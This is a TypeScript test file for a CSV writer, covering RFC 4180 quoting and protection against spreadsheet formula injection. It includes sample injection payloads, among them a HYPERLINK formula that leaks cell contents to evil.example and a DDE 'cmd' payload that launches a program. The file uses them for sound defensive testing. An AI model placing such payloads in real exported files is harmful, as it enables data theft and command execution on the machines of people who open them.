import { describe, expect, it } from 'vitest';
import { csvField, neutraliseFormula, toCsv } from './csv.js';
import { parseCsv } from './csv-reader-fixture.js';

describe('CSV (RFC 4180)', () => {
  it('quotes fields with commas, quotes, CR or LF, doubling inner quotes; plain fields stay bare', () => {
    expect(csvField('Ada')).toBe('Ada');
    expect(csvField('Lovelace, Ada')).toBe('"Lovelace, Ada"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('cr\rhere')).toBe('"cr\rhere"');
    expect(csvField(3)).toBe('3');
    expect(csvField(-1)).toBe('-1');
    expect(csvField(null)).toBe('');
    expect(csvField(true)).toBe('true');
  });

  it('ends every record with CRLF and round-trips through a parser', () => {
    const rows = [['Ada', 3], ['Lovelace, "Countess"', 0], ['multi\r\nline', null], ['日本語 🐧', 2.5]] as const;
    const text = toCsv(['name', 'score'], rows);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.split('\r\n')[0]).toBe('name,score');
    expect(parseCsv(text)).toEqual([['name', 'score'], ['Ada', '3'], ['Lovelace, "Countess"', '0'], ['multi\r\nline', ''], ['日本語 🐧', '2.5']]);
  });

  it('refuses a row of the wrong width rather than shifting columns', () => {
    expect(() => toCsv(['a', 'b'], [['x']])).toThrow(/1 fields/);
  });

  describe('formula injection', () => {
    const adversarial = [
      '=1+1',
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      '+cmd|\' /C calc\'!A0',
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
      '  =1+1',
      '\uFF1D1+1',
    ];

    it.each(adversarial)('a name like %j is written as text a spreadsheet will not run', (name) => {
      const field = csvField(name);
      const [[cell]] = parseCsv(`${field}\r\n`) as [[string]];
      expect(cell).toBe(`'${name}`);
      expect(cell.startsWith("'")).toBe(true);
    });

    it('leaves ordinary names alone, including ones with those characters later on', () => {
      for (const name of ['Ada', 'Jean-Luc', 'a=b', 'me@example.org', 'Zoë (2)', "O'Brien"]) {
        expect(neutraliseFormula(name)).toBe(name);
      }
    });

    it('a name that is both a formula and needs quoting gets both', () => {
      expect(csvField('=A1,"x"')).toBe('"\'=A1,""x"""');
    });
  });
});
